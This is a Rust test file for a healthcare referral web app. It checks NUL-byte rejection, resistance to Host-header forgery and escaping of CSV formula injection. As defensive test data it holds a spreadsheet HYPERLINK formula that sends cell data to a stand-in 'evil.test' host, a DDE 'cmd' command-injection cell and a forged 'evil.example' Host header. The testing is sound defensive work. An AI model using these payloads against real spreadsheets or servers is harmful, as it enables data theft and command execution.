//! Untrusted input, over HTTP on SQLite and PostgreSQL:
//!
//! - a NUL byte (which PostgreSQL refuses in text and SQLite would store) or another control
//!   character is refused at the boundary, naming the field, the same way on both databases:
//!   JSON bodies, forms, query strings, ids in paths, FHIR, CSV import; nothing is written;
//! - FHIR `Location`/`Link` headers and Bundle `fullUrl`s use the configured public address, never
//!   the request's `Host` header;
//! - no cell of any CSV download starts a spreadsheet formula, whatever names came in.

use crate::support;

use linkwork_domain::access::{Actor, OrgKind, Role};
use linkwork_domain::casework::need::NeedDomain;
use linkwork_store::testing::fresh_database_urls;
use linkwork_store::*;
use reqwest::StatusCode;
use serde_json::{json, Value};
use support::*;

async fn token(w: &World, org: &str, role: Role) -> String {
    let token = linkwork_app::accounts::new_api_token();
    w.store.create_api_token(&linkwork_app::accounts::hash_api_token(&token), org, role, Some("test")).await.unwrap();
    token
}

fn referral_body(w: &World, given_name: &str, reason: &str) -> Value {
    json!({
        "nhs_number": nhs_number(7), "given_name": given_name, "family_name": "Example", "date_of_birth": "1960-01-31", "sex": "2", "ethnicity": "A",
        "postcode": "LS1 4AP", "practice_id": w.practice, "referred_on": today().to_string(), "source": "gp_practice", "referrer_name": "Dr Shah", "reason": reason, "needs": ["loneliness"], "consent": "yes"
    })
}

async fn referral_count(w: &World) -> usize {
    w.store.caseload(&w.pcn, None, false).await.unwrap().len()
}

#[tokio::test]
async fn a_nul_in_a_json_field_is_refused_naming_the_field_and_writes_nothing() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let http = reqwest::Client::new();
        for (given, reason, field) in [("An\u{0}n", "Lonely", "given_name"), ("Ann", "Lonely\u{0}", "reason"), ("Ann\u{1b}[31m", "Lonely", "given_name")] {
            let r = http.post(format!("{}/api/referrals", w.base)).bearer_auth(&lw).json(&referral_body(&w, given, reason)).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend}: {field}");
            let body: Value = r.json().await.unwrap();
            assert_eq!(body["fields"][0]["field"], field, "{backend}: {body}");
            let message = body["fields"][0]["message"].as_str().unwrap();
            assert!(message.contains("cannot be stored") && message.contains(field), "{backend}: {message}");
        }
        assert_eq!(referral_count(&w).await, 0, "{backend}: nothing written");
        // Line breaks and tabs are fine in text that runs over several lines.
        let r = http.post(format!("{}/api/referrals", w.base)).bearer_auth(&lw).json(&referral_body(&w, "Ann", "Lonely\r\n\tsince spring")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::CREATED, "{backend}");
    }
}

#[tokio::test]
async fn a_nul_in_a_form_field_is_refused_on_the_page_and_writes_nothing() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = Browser::login(&w.base, "lw@test.org").await;
        let number = nhs_number(8);
        let today = today().to_string();
        let mut fields = vec![
            ("nhs_number", number.as_str()),
            ("given_name", "Ann"),
            ("family_name", "Exa\u{0}mple"),
            ("date_of_birth", "1960-01-31"),
            ("sex", "2"),
            ("ethnicity", "A"),
            ("postcode", "LS1 4AP"),
            ("mobile", "07700 900123"),
            ("practice_id", w.practice.as_str()),
            ("referred_on", today.as_str()),
            ("source", "gp_practice"),
            ("referrer_name", "Dr Shah"),
            ("reason", "Lonely"),
            ("needs", "loneliness"),
            ("consent", "yes"),
        ];
        let (status, _, html) = lw.post("/referrals/new", "/referrals/new", &fields).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{backend}");
        assert!(html.contains("family_name") && html.contains("NUL byte"), "{backend}: {html}");
        assert_eq!(referral_count(&w).await, 0, "{backend}: nothing written");
        fields[2] = ("family_name", "Example");
        let (status, _, _) = lw.post("/referrals/new", "/referrals/new", &fields).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{backend}: the same form without the NUL is saved");
    }
}

#[tokio::test]
async fn a_nul_in_an_id_is_not_found_on_both_databases() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let http = reqwest::Client::new();
        for path in ["/api/referrals/a%00b", "/api/people/%00/timeline", "/fhir/Task/%00", "/fhir/ServiceRequest/x%01", "/api/referrals/%FF%FE"] {
            let r = http.get(format!("{}{path}", w.base)).bearer_auth(&lw).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::NOT_FOUND, "{backend}: {path}");
        }
        let browser = Browser::login(&w.base, "lw@test.org").await;
        let (status, _) = browser.get("/referrals/%00").await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{backend}: page");
    }
}

#[tokio::test]
async fn a_nul_in_a_query_parameter_is_refused_naming_it() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let http = reqwest::Client::new();
        for (path, field) in [("/api/people?name=Ann%00", "name"), ("/api/directory/services?q=walk%00", "q"), ("/api/report?from=2026-01-01%00", "from")] {
            let r = http.get(format!("{}{path}", w.base)).bearer_auth(&lw).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend}: {path}");
            let body: Value = r.json().await.unwrap();
            assert_eq!(body["fields"][0]["field"], field, "{backend}: {body}");
        }
        let browser = Browser::login(&w.base, "lw@test.org").await;
        let (status, html) = browser.get("/people?name=%00").await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{backend}: page");
        assert!(html.contains("NUL byte"), "{backend}");
    }
}

#[tokio::test]
async fn fhir_intake_refuses_a_nul_at_its_path() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let body = json!({ "resourceType": "ServiceRequest", "contained": [{ "resourceType": "Patient", "name": [{ "family": "Te\u{0}st" }] }] });
        let r = reqwest::Client::new().post(format!("{}/fhir/ServiceRequest", w.base)).bearer_auth(&lw).header("content-type", "application/fhir+json").body(body.to_string()).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend}");
        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("application/fhir+json"), "{backend}");
        let outcome: Value = r.json().await.unwrap();
        assert_eq!(outcome["resourceType"], "OperationOutcome", "{backend}");
        assert_eq!(outcome["issue"][0]["expression"][0], "contained[0].name[0].family", "{backend}: {outcome}");
        assert_eq!(referral_count(&w).await, 0, "{backend}");
    }
}

#[tokio::test]
async fn a_csv_import_with_a_nul_is_refused_and_writes_nothing() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let header = "nhs_number,given_name,family_name,date_of_birth,sex,ethnicity,postcode,practice_ods,referred_on,source,referrer_name,reason,needs\n";
        let good = format!("{},Ann,Example,1950-01-01,2,A,LS1 4AP,Z00001,2026-01-05,gp_practice,Dr Shah,Lonely,loneliness\n", nhs_number(1));
        let bad = format!("{},Bo,Example,1950-01-01,1,A,LS1 4AP,Z00001,2026-01-05,gp_practice,Dr Shah,\"Lonely\u{0} and low\",loneliness\n", nhs_number(2));
        let actor = Actor { org_id: w.pcn.clone(), role: Role::LinkWorker };
        let who = AuditActor { user_id: None, token_id: None, org_id: Some(w.pcn.clone()) };
        let file = format!("{header}{good}{bad}");
        let report = linkwork_app::import::import_referrals(&*w.store, &actor, &who, file.as_bytes(), linkwork_app::import::ImportMode::default()).await.unwrap();
        assert_eq!(report.imported, 0, "{backend}");
        let problem = report.problems.iter().find(|p| p.column == Some("reason")).unwrap_or_else(|| panic!("{backend}: {:?}", report.problems));
        assert_eq!(problem.line, 3, "{backend}");
        assert!(problem.message.contains("NUL byte"), "{backend}: {}", problem.message);
        assert_eq!(referral_count(&w).await, 0, "{backend}: nothing written");
    }
}

#[tokio::test]
async fn fhir_links_use_the_public_address_not_a_forged_host() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let http = reqwest::Client::new();
        let body = json!({
            "resourceType": "ServiceRequest",
            "contained": [{
                "resourceType": "Patient", "id": "patient",
                "identifier": [{ "system": "https://fhir.nhs.uk/Id/nhs-number", "value": nhs_number(3) }],
                "name": [{ "family": "Test", "given": ["Ada"] }], "gender": "female", "birthDate": "1948-02-29",
                "address": [{ "postalCode": "LS1 4AP" }],
                "generalPractitioner": [{ "identifier": { "system": "https://fhir.nhs.uk/Id/ods-organization-code", "value": "Z00001" } }],
            }],
            "status": "active", "intent": "order",
            "code": { "coding": [{ "system": "http://snomed.info/sct", "code": "871731000000106" }] },
            "subject": { "reference": "#patient" }, "authoredOn": today().to_string(), "requester": { "display": "Dr Patel" },
            "reasonCode": [{ "coding": [{ "system": format!("{}/fhir/CodeSystem/need-domain", w.base), "code": "loneliness" }], "text": "Lonely" }],
        });
        let forged = "evil.example:443";
        let r = http.post(format!("{}/fhir/ServiceRequest", w.base)).bearer_auth(&lw).header("host", forged).header("x-forwarded-proto", "https").header("content-type", "application/fhir+json").body(body.to_string()).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::CREATED, "{backend}: {}", r.text().await.unwrap());
        let location = r.headers()["location"].to_str().unwrap().to_owned();
        let link = r.headers()["link"].to_str().unwrap().to_owned();
        assert!(location.starts_with(&format!("{}/fhir/ServiceRequest/", w.base)), "{backend}: {location}");
        assert!(link.starts_with(&format!("<{}/fhir/Task/", w.base)), "{backend}: {link}");
        let bundle: Value = http.get(format!("{}/api/gp-record", w.base)).bearer_auth(&lw).header("host", forged).send().await.unwrap().json().await.unwrap();
        for entry in bundle["entry"].as_array().unwrap() {
            let full_url = entry["fullUrl"].as_str().unwrap();
            assert!(full_url.starts_with(&format!("{}/fhir/", w.base)) && !full_url.contains("evil"), "{backend}: {full_url}");
        }
    }
}

/// Every cell of a CSV document: none may start a spreadsheet formula, unless it is a number.
fn assert_no_formulas(what: &str, csv: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !linkwork_domain::interop::csv_safe::is_number(cell);
            assert!(!formula, "{what}: the cell {cell:?} would run as a formula");
        }
    }
}

const FORMULA_SERVICE: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
const FORMULA_PARTNER: &str = "@SUM(1+1)";

#[tokio::test]
async fn no_csv_download_starts_a_formula_whatever_names_came_in() {
    for (backend, url) in fresh_database_urls(&std::env::temp_dir()).await {
        let w = spawn(&url).await;
        let who = AuditActor { user_id: None, token_id: None, org_id: Some(w.pcn.clone()) };
        // A partner and service whose names came in from an import, and a person sent to it.
        let partner = w.store.create_org(&NewOrg { kind: OrgKind::Vcse, name: FORMULA_PARTNER.into(), ods_code: None, parent_id: None, list_size: None }).await.unwrap();
        let service = w
            .store
            .create_service(&NewService { org_id: partner.clone(), name: FORMULA_SERVICE.into(), description: "-1".into(), needs: vec![NeedDomain::Loneliness], address: None, postcode: None, phone: None, email: None })
            .await
            .unwrap();
        let profile = ServiceProfile { waiting_list: Some(12), funding_ends_on: Some(today() + time::Duration::days(30)), ..ServiceProfile::default() };
        w.store.set_service_profile(&service, &profile).await.unwrap();
        let referral = linkwork_app::import::import_referrals(
            &*w.store,
            &Actor { org_id: w.pcn.clone(), role: Role::LinkWorker },
            &who,
            format!("nhs_number,given_name,family_name,date_of_birth,sex,ethnicity,postcode,practice_ods,referred_on,source,referrer_name,reason,needs\n{},=cmd|' /C calc'!A0,+44 20 7946 0000,1950-01-01,2,A,LS1 4AP,Z00001,{},gp_practice,@Dr Shah,-Lonely,loneliness\n", nhs_number(4), today() - time::Duration::days(10)).as_bytes(),
            linkwork_app::import::ImportMode::default(),
        )
        .await
        .unwrap();
        assert_eq!(referral.imported, 1, "{backend}: {:?}", referral.problems);
        let id = w.store.caseload(&w.pcn, None, false).await.unwrap()[0].referral_id.clone();
        w.store.create_onward(&who, &id, &service, today() - time::Duration::days(5), None).await.unwrap();

        let manager = Browser::login(&w.base, "manager@test.org").await;
        let commissioner = Browser::login(&w.base, "commissioner@test.org").await;
        let mut downloads = vec![];
        for (who, path) in [(&manager, "/report.csv"), (&commissioner, "/reports/network.csv"), (&commissioner, "/reports/gaps.csv"), (&manager, &format!("/reports/partners/{partner}/report.csv"))] {
            let (status, csv) = who.get(path).await;
            assert_eq!(status, StatusCode::OK, "{backend}: {path}");
            assert_no_formulas(&format!("{backend} {path}"), &csv);
            downloads.push(csv);
        }
        assert!(downloads[0].contains("'@SUM(1+1): onward referrals sent"), "{backend}: the partner's name is in the report, escaped: {}", downloads[0]);
        assert!(downloads[1].contains("Link workers,'@SUM(1+1),all,*"), "{backend}: {}", downloads[1]);
        assert!(downloads[2].contains("\"'=HYPERLINK("), "{backend}: {}", downloads[2]);
        let lw = token(&w, &w.pcn, Role::LinkWorker).await;
        let gp = reqwest::Client::new().get(format!("{}/api/gp-record?format=csv", w.base)).bearer_auth(&lw).send().await.unwrap().text().await.unwrap();
        assert_no_formulas(&format!("{backend} gp-record"), &gp);
    }
}
